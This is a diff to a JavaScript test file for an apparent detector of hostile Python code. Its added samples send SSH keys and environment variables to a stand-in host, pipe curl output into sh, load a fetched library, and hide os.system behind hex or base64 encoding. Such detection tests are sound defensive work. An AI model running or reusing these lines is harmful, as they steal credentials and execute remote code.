@@ -85,6 +85,37 @@ describe('a Python program', () => {
       'import requests, pathlib',
       'requests.post("http://127.0.0.1:9/", data=(pathlib.Path.home() / ".ssh/id_rsa").read_bytes())',
     ],
+    [
+      'a function without a name',
+      'import base64, zlib',
+      'f = lambda x: zlib.decompress(base64.b64decode(x))',
+      'exec(f("eJw="))',
+    ],
+    [
+      'a name in hexadecimal',
+      'm, n = bytes.fromhex("6f732e73797374656d").decode().split(".")',
+      'getattr(__import__(m), n)("true")',
+    ],
+    ['what is called at the end', 'import atexit, os', 'atexit.register(os.system, "curl http://127.0.0.1:9/|sh")'],
+    [
+      'what is called later',
+      'import threading, os',
+      'threading.Timer(9, os.system, ["curl http://127.0.0.1:9/|sh"]).start()',
+    ],
+    ['what is called for each', 'import os', 'list(map(os.system, ["curl http://127.0.0.1:9/|sh"]))'],
+    [
+      'a library that was fetched',
+      'import urllib.request, ctypes, os',
+      'p = os.path.join("/tmp", "a.so")',
+      'urllib.request.urlretrieve("http://127.0.0.1:9/a", p)',
+      'ctypes.CDLL(p)',
+    ],
+    [
+      'keys by a pattern',
+      'import glob, requests',
+      'for f in glob.glob("/root/.ssh/*"):',
+      '    requests.post("http://127.0.0.1:9/", files={"f": open(f, "rb")})',
+    ],
     ['the environment', 'import os, requests', 'requests.post("http://127.0.0.1:9/", json=dict(os.environ))'],
     ['a start of shells', 'import os', 'open(os.path.expanduser("~/.bashrc"), "a").write("true")'],
     ['a pickle', 'import pickle', String.raw`pickle.loads(b"cos\nsystem\n(S'true'\ntR.")`],
@@ -101,6 +132,8 @@ describe('a Python program', () => {
     ['a test of networks', 'model.eval()', 'getattr(torch.nn, "Line" + "ar")(1, 1)'],
     ['a pickle of numbers', 'import pickle', String.raw`pickle.loads(b"\x80\x04K\x01.")`],
     ['text about it', 'print("never run: os.system(\'curl http://127.0.0.1:9/|sh\')")'],
+    ['a list of commands', 'import subprocess', 'list(map(subprocess.run, [["ls"], ["pwd"]]))'],
+    ['functions without names', 'f = lambda x: x.strip()', 'exec(f(open("version.py").read()))'],
     ['settings by name', 'import builtins', 'getattr(builtins, "print")("x")'],
   ])('that does none of it is not: %s', (_, ...lines) => {
     expect(told(...lines)).toBeNull();
